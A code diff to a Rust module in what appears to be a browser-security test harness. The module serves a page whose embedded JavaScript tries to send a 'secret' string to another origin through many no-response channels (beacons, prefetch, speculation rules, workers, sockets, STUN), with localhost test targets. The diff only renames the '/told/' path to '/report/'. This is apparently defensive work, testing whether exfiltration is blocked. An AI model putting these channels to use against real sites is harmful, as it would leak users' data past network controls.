@@ -1,5 +1,5 @@
 //! `/ways-out?to=http://c.localhost:PORT&udp=PORT`: a page that tries to send data to another site in every way that
-//! returns no response to it. It tries each way with that site first (`/told/WAY`), then with its own (`/own/WAY`).
+//! returns no response to it. It tries each way with that site first (`/report/WAY`), then with its own (`/own/WAY`).
 
 use crate::site::http::incoming::Incoming;
 use crate::site::http::response::{Response, escape};
@@ -12,7 +12,7 @@ pub const EXFILTRATION_PATHS: &[&str] =
     &["beacon", "prefetch", "speculation", "worker", "nested", "imported", "socket", "shared"];
 
 const SCRIPT: &str = "
-    const [there, own] = [`${TO}/told/`, `${location.origin}/own/`];
+    const [there, own] = [`${TO}/report/`, `${location.origin}/own/`];
     const quietly = (code) => { try { code(); } catch {} };
     for (const base of [there, own]) {
         navigator.sendBeacon(`${base}beacon`, 'secret');
@@ -65,6 +65,6 @@ mod tests {
         for way in super::EXFILTRATION_PATHS {
             assert!(body.contains(way), "{way}");
         }
-        assert!(body.contains("http://c.localhost:1/told/") && body.contains("stun:127.0.0.1:7"), "{body}");
+        assert!(body.contains("http://c.localhost:1/report/") && body.contains("stun:127.0.0.1:7"), "{body}");
     }
 }
